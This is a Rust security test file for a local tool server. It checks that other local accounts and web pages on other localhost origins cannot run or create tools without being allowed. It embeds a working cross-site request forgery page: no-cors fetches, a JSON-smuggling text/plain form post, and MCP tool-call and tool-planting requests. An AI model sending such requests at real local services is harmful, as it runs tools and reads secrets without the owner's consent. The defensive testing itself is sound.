//! Who can reach a `glovebox serve` on loopback without a token (issue
//! 43, item 1), by effect: a tool that appends to a marker file and
//! prints a canary only root can read.
//!
//! - Another local account (`nobody`, a child's setuid) calls it every way
//!   a client can — the REST invoke, tool creation over REST and MCP, MCP
//!   tools/call, the usage log — and races requests whose connection
//!   closes at once: every answer is a refusal, none carries the canary,
//!   the marker stays absent and no call is in the audit log. The
//!   server's own account, with the same probe, runs the tool; with
//!   `--allow-uid nobody`, so does nobody.
//! - A real headless Chromium page on another localhost port tries the
//!   tool three ways (a no-preflight `text/plain` fetch, a JSON fetch, a
//!   form post) and reports each attempt to the test: nothing runs. With
//!   `--allow-origin` naming that page's origin, its JSON fetch runs the
//!   tool once and reads the result, and the other two still run nothing.
//!
//! The other-account attack needs root (to become `nobody`); run as
//! another user (`.ci/unprivileged`, `.ci/nouserns` run this binary) the
//! test checks the own account's calls alone and says so. Chromium comes
//! from Debian's package, installed by the test when missing
//! (`common::system_program`).

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod runkit;
mod servekit;

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::mpsc;
use std::time::{Duration, Instant};

use common::*;
use runkit::*;
use serde_json::{json, Value};
use servekit::*;

const CANARY: &str = "CANARY-7f3a9c-only-root-reads-this";
const NOBODY: u32 = 65534;

/// A project whose tool `reveal` appends `ran` to `ran/log` and prints
/// `secret/canary` (0600, root's); the directories are world-searchable,
/// so only the file's own mode keeps another account out. It forks
/// nothing (`exec`): where the process limit is `RLIMIT_NPROC` (as
/// another user without namespaces) Chromium's threads count against it.
fn project() -> Fixture {
    let f = Fixture::new();
    f.tool(&command_tool(
        "reveal",
        schema(json!({})),
        json!({"entrypoint": "sh", "args": ["-c", "echo ran >> ran/log; exec cat secret/canary"]}),
        json!({"network": false, "fs": {"read": ["secret"], "write": ["ran"]}, "secrets": {}}),
    ));
    let canary = f.file("secret/canary", CANARY);
    std::fs::set_permissions(&canary, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::create_dir_all(f.root.join("ran")).unwrap();
    for d in [
        f.base.clone(),
        f.root.clone(),
        f.root.join("secret"),
        f.root.join("ran"),
    ] {
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    f
}

fn serve(f: &Fixture, extra: &[&str]) -> Served {
    let state = f.state();
    Served::start(
        &f.root,
        &[("GLOVEBOX_STATE_DIR", state.to_str().unwrap())],
        extra,
    )
}

/// Runs the caller probe as `uid` (the child's setuid, supplementary
/// groups dropped) or as this process (`None`).
fn caller(s: &Served, f: &Fixture, uid: Option<u32>, races: usize) -> Value {
    let (host, port) = s.addr.rsplit_once(':').unwrap();
    let probe = probes().join("serve_caller.py");
    let mut c = Command::new("/usr/bin/python3");
    if let Some(uid) = uid {
        c.uid(uid).gid(uid);
    }
    let canary = f.root.join("secret/canary");
    let out = c
        .arg(&probe)
        .args([host, port, "reveal", path_str(&canary), &races.to_string()])
        .current_dir("/")
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "the caller probe failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "the caller probe printed no JSON ({e}): {}",
            String::from_utf8_lossy(&out.stdout)
        )
    });
    assert_eq!(v["ran"], true, "the probe did not run: {v}");
    v
}

fn runs(f: &Fixture) -> usize {
    std::fs::read_to_string(f.root.join("ran/log"))
        .unwrap_or_default()
        .lines()
        .count()
}

fn calls_logged(f: &Fixture) -> usize {
    f.audit_log().matches("TOOL_STARTED name=reveal").count()
}

const ATTEMPTS: [&str; 6] = [
    "rest_invoke",
    "rest_list",
    "usage",
    "create",
    "mcp_initialize",
    "mcp_call",
];

/// The other account the attack runs as: `nobody`, when this process
/// can become it (root). Without root there is no other account to be:
/// the stages that run this binary as an unprivileged user
/// (`.ci/unprivileged`, the bubblewrap run of `.ci/nouserns`) check the
/// own account's calls alone, saying so, and their root runs (the main
/// suite, `.ci/nouserns` under the container profile) make the attack.
fn other_account() -> Option<u32> {
    let me = nix::unistd::geteuid();
    if me.is_root() {
        return Some(NOBODY);
    }
    eprintln!(
        "NOT RUN as uid {me}: the other-account attack needs root (to become nobody); only the own account's calls are checked here"
    );
    None
}

#[test]
fn another_local_account_runs_no_tool_and_reads_no_result_over_any_transport() {
    require_jail!();
    let f = project();
    let s = serve(&f, &[]);

    let other = other_account();
    if let Some(uid) = other {
        let other = caller(&s, &f, Some(uid), 200);
        // The probe really is another account: it cannot read the canary.
        assert!(other["direct_read"].is_null(), "{other}");
        assert_eq!(other["raced"], 200, "{other}");
        for attempt in ATTEMPTS {
            let a = &other[attempt];
            assert_eq!(a["status"], 403, "{attempt} was not refused: {a}");
            let body = a["body"].as_str().unwrap();
            assert!(!body.contains(CANARY), "{attempt} read the canary: {a}");
            assert!(
                body.contains(&format!("uid {uid}")) && body.contains("--allow-uid"),
                "{attempt}: the refusal does not say why: {a}"
            );
        }
        // The session never opened: the rest of the MCP calls were refused too.
        assert_ne!(other["mcp_create"]["status"], 200, "{other}");
        // The effect: nothing ran, nothing was created, nothing logged.
        std::thread::sleep(Duration::from_millis(500));
        assert_eq!(runs(&f), 0, "another account ran the tool");
        assert_eq!(calls_logged(&f), 0, "{}", f.audit_log());
        for planted in ["planted_rest", "planted_mcp"] {
            assert!(
                !f.root.join(".glee/tools").join(planted).exists(),
                "another account created {planted}"
            );
        }
        s.assert_alive();
    }

    // The server's own account, same probe, same server: no false refusal.
    let own = caller(&s, &f, None, 0);
    assert_eq!(own["rest_invoke"]["status"], 200, "{own}");
    assert!(own["rest_invoke"]["body"]
        .as_str()
        .unwrap()
        .contains(CANARY));
    assert!(
        own["mcp_call"]["body"].as_str().unwrap().contains(CANARY),
        "{own}"
    );
    assert_eq!(own["usage"]["status"], 200, "{own}");
    assert_eq!(runs(&f), 2, "the own account's two calls ran");
    // The definition the attacks send is one that creates a tool (the
    // page's is the same).
    assert_eq!(own["create"]["status"], 201, "{own}");
    assert!(f.root.join(".glee/tools/planted_rest").exists());
    drop(s);

    // Named with --allow-uid, the other account gets in.
    if let Some(uid) = other {
        let s = serve(&f, &["--allow-uid", "nobody"]);
        let allowed = caller(&s, &f, Some(uid), 0);
        assert_eq!(allowed["rest_invoke"]["status"], 200, "{allowed}");
        assert!(allowed["rest_invoke"]["body"]
            .as_str()
            .unwrap()
            .contains(CANARY));
    }
}

/// The server's own account with no token: curl (which sends
/// `Content-Type: application/json` with `--json`) runs the tool. (The
/// MCP Python SDKs call a tokenless server as its own account in
/// `tests/mcp.rs`: `mcp2_*_http_*`, `http_*`.)
#[test]
fn the_own_account_calls_without_a_token_with_curl_json() {
    require_jail!();
    let f = project();
    let s = serve(&f, &[]);
    let url = format!("http://{}/api/v1/tools/reveal/invoke", s.addr);
    let out = Command::new("curl")
        .args(["-s", "--json", "{}", &url])
        .output()
        .unwrap();
    let body = String::from_utf8_lossy(&out.stdout);
    assert!(body.contains(CANARY), "curl --json: {body}");
    // Plain `curl -d` is a form post: refused, saying what to send.
    let out = Command::new("curl")
        .args(["-s", "-d", "{}", &url])
        .output()
        .unwrap();
    let body = String::from_utf8_lossy(&out.stdout);
    assert!(
        body.contains("Content-Type: application/json") && !body.contains(CANARY),
        "curl -d: {body}"
    );
    assert_eq!(runs(&f), 1);
}

/// The test's web page: its script tries the tool of the server named by
/// `?target=` three ways and posts a report of each attempt back to its
/// own origin.
const PAGE: &str = r#"<!doctype html><html><body><iframe name="sink"></iframe><script>
const target = new URLSearchParams(location.search).get("target") + "/api/v1/tools/reveal/invoke";
const report = (what) => fetch("/report", {method: "POST", body: what});
(async () => {
  await report("started");
  try {
    const r = await fetch(target, {method: "POST", mode: "no-cors",
      headers: {"Content-Type": "text/plain"}, body: "{}"});
    await report("plain: sent, opaque=" + (r.type === "opaque"));
  } catch (e) { await report("plain: error " + e); }
  try {
    const r = await fetch(target, {method: "POST",
      headers: {"Content-Type": "application/json"}, body: "{}"});
    await report("json: " + r.status + " " + (await r.text()));
  } catch (e) { await report("json: error " + e); }
  const sink = document.querySelector("iframe");
  const loaded = new Promise((ok) => sink.addEventListener("load", ok, {once: true}));
  const form = document.createElement("form");
  form.method = "POST"; form.action = target; form.target = "sink";
  form.enctype = "text/plain";
  const input = document.createElement("input");
  input.name = '{"a":"'; input.value = '"}';
  form.appendChild(input); document.body.appendChild(form);
  form.submit();
  await Promise.race([loaded, new Promise((ok) => setTimeout(ok, 5000))]);
  let seen = "";
  try { seen = sink.contentDocument.body.innerText; } catch (e) { seen = "unreadable"; }
  await report("form: posted, read=" + seen);
  // MCP and tool creation, no preflight: a tools/call, glee_tool_create,
  // the REST create.
  const base = new URLSearchParams(location.search).get("target");
  const def = {description: "planted by a web page", kind: "command", version: 1,
    inputs: {schema: {type: "object", properties: {}}}, outputs: {format: "text"},
    exec: {command: {entrypoint: "true", args: []}},
    permissions: {network: false, fs: {read: [], write: []}, secrets: {}}};
  const plain = (path, body) => fetch(base + path, {method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain", "Accept": "application/json, text/event-stream"},
    body: JSON.stringify(body)});
  for (const [what, path, body] of [
    ["mcp_call", "/mcp", {jsonrpc: "2.0", id: 1, method: "tools/call",
      params: {name: "reveal", arguments: {}}}],
    ["mcp_create", "/mcp", {jsonrpc: "2.0", id: 2, method: "tools/call",
      params: {name: "glee_tool_create", arguments: {name: "planted_page_mcp", definition: def}}}],
    ["rest_create", "/api/v1/tools", {name: "planted_page_rest", definition: def}],
  ]) {
    try { await plain(path, body); await report(what + ": sent"); }
    catch (e) { await report(what + ": error " + e); }
  }
  await report("done");
})();
</script></body></html>"#;

/// No tool the page tried to create exists.
fn assert_no_planted_tool(f: &Fixture) {
    for planted in ["planted_page_mcp", "planted_page_rest"] {
        assert!(
            !f.root.join(".glee/tools").join(planted).exists(),
            "a web page created {planted}"
        );
    }
}

/// Serves [`PAGE`] at `/` on a loopback port of its own and collects the
/// reports posted to `/report`.
struct PageServer {
    origin: String,
    reports: mpsc::Receiver<String>,
}

impl PageServer {
    fn start() -> PageServer {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let origin = format!("http://{}", listener.local_addr().unwrap());
        let (tx, reports) = mpsc::channel();
        std::thread::spawn(move || {
            for conn in listener.incoming() {
                let Ok(mut conn) = conn else { continue };
                let tx = tx.clone();
                std::thread::spawn(move || {
                    let _ = conn.set_read_timeout(Some(Duration::from_secs(30)));
                    let mut r = BufReader::new(conn.try_clone().unwrap());
                    loop {
                        let mut line = String::new();
                        if r.read_line(&mut line).unwrap_or(0) == 0 {
                            return;
                        }
                        let mut length = 0;
                        loop {
                            let mut h = String::new();
                            if r.read_line(&mut h).unwrap_or(0) == 0 {
                                return;
                            }
                            if h.trim().is_empty() {
                                break;
                            }
                            if let Some((k, v)) = h.split_once(':') {
                                if k.eq_ignore_ascii_case("content-length") {
                                    length = v.trim().parse().unwrap_or(0);
                                }
                            }
                        }
                        let mut body = vec![0; length];
                        if r.read_exact(&mut body).is_err() {
                            return;
                        }
                        let (status, ctype, text) = if line.starts_with("POST /report") {
                            let _ = tx.send(String::from_utf8_lossy(&body).into_owned());
                            ("204 No Content", "text/plain", String::new())
                        } else if line.starts_with("GET / ") || line.starts_with("GET /?") {
                            ("200 OK", "text/html", PAGE.to_string())
                        } else {
                            ("404 Not Found", "text/plain", String::new())
                        };
                        let answer = format!(
                            "HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\nCache-Control: no-store\r\n\r\n{text}",
                            text.len()
                        );
                        if conn.write_all(answer.as_bytes()).is_err() {
                            return;
                        }
                    }
                });
            }
        });
        PageServer { origin, reports }
    }
}

/// Opens the page, aimed at the server at `target`, in headless Chromium
/// (a new empty profile) until it reports `done`; the reports, in order.
fn browse(chromium: &Path, page: &PageServer, target: &str) -> Vec<String> {
    let profile = tempdir();
    let mut child = Command::new(chromium)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--disable-dev-shm-usage",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .arg(format!("{}/?target=http://{target}", page.origin))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(90);
    let mut reports = Vec::new();
    while Instant::now() < deadline {
        match page.reports.recv_timeout(Duration::from_millis(200)) {
            Ok(r) => {
                let done = r == "done";
                reports.push(r);
                if done {
                    break;
                }
            }
            Err(mpsc::RecvTimeoutError::Timeout) => {}
            Err(e) => panic!("{e}"),
        }
    }
    // Chromium and the processes it started (its own group).
    let _ = nix::sys::signal::killpg(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGKILL,
    );
    let _ = child.wait();
    eprintln!("the page reported: {reports:?}");
    reports
}

fn report<'a>(reports: &'a [String], prefix: &str) -> &'a str {
    reports
        .iter()
        .find(|r| r.starts_with(prefix))
        .unwrap_or_else(|| panic!("the page never reported {prefix:?}: {reports:?}"))
}

#[test]
fn a_web_page_on_another_localhost_port_runs_no_tool_unless_its_origin_is_allowed() {
    require_jail!();
    let chromium = system_program("chromium", "chromium");
    let f = project();
    let s = serve(&f, &[]);
    let page = PageServer::start();
    let reports = browse(&chromium, &page, &s.addr);
    // The page's script ran every attempt and said so.
    assert_eq!(
        reports.first().map(String::as_str),
        Some("started"),
        "{reports:?}"
    );
    assert_eq!(
        reports.last().map(String::as_str),
        Some("done"),
        "{reports:?}"
    );
    report(&reports, "plain: ");
    let json = report(&reports, "json: ");
    report(&reports, "form: posted");
    for r in &reports {
        assert!(!r.contains(CANARY), "the page read the canary: {r}");
    }
    // The JSON fetch's preflight was refused: the fetch failed.
    assert!(json.starts_with("json: error"), "{reports:?}");
    for sent in ["mcp_call: sent", "mcp_create: sent", "rest_create: sent"] {
        report(&reports, sent);
    }
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(runs(&f), 0, "a web page ran the tool: {reports:?}");
    assert_eq!(calls_logged(&f), 0, "{}", f.audit_log());
    assert_no_planted_tool(&f);
    drop(s);

    // Its origin allowed: the JSON fetch runs the tool and reads it (no
    // false refusal); the text/plain fetch and the form post still run
    // nothing.
    let s = serve(&f, &["--allow-origin", &page.origin]);
    let reports = browse(&chromium, &page, &s.addr);
    assert_eq!(
        reports.last().map(String::as_str),
        Some("done"),
        "{reports:?}"
    );
    let json = report(&reports, "json: ");
    assert!(
        json.starts_with("json: 200") && json.contains(CANARY),
        "the allowed origin's JSON fetch: {reports:?}"
    );
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(runs(&f), 1, "only the JSON fetch ran: {reports:?}");
    assert_no_planted_tool(&f);
}
